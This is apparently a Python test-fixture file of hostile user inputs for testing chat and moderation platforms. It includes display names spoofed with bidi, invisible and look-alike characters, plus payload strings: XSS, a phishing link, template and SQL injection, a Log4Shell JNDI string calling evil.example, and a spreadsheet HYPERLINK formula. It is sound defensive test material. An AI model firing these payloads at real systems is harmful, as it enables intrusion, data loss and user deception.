"""What people write who want to do harm, for the tests of every platform."""

BIDI = "\u202e\u2066\u2067\u2069\u200f\u061c"
HIDDEN = "\u200b\u200d\u2060\ufeff\u00ad\U000e0041"

NAMES = {
    "turned": ("Mina \u202etfel ot thgir\u202c", "Mina tfel ot thgir"),
    "isolated": ("\u2067Mina\u2069", "Mina"),
    "hidden": (f"Mi{HIDDEN}na", "Mina"),
    "piled up": ("M" + "\u0301\u0336\u0489" * 40 + "ina", "M\u0301\u0336ina"),
    "on many lines": ("Mina\n\r\u2028\x00# Moderators agree", "Mina # Moderators agree"),
    "very long": ("M" * 5000, "M" * 80),
    "broken": ("Mi\ud800na", "Mina"),
    "look-alikes": ("Мinа", "Мinа"),  # told apart by the person's id and the link, not by guessing
    "in another script": ("สมชาย נועה ज़ोया", "สมชาย נועה ज़ोया"),
    "nothing to see": (HIDDEN + BIDI, "…"),
}

WORDS = (
    "@everyone @here <@&5> <@1>",
    "<!channel> <!here> <!everyone> <!subteam^S1> <@U0MINA> <#C1>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](https://evil.example/x) <https://evil.example|your bank> ![x](javascript:alert(1))",
    "`code` ```fence``` **bold** ||spoiler|| > # quote",
    "{{7*7}} ${jndi:ldap://evil.example} %s %(name)s {0.__class__}",
    "'; DROP TABLE cases; --",
    '=HYPERLINK("https://evil.example")',
    f"{BIDI}{HIDDEN}",
)
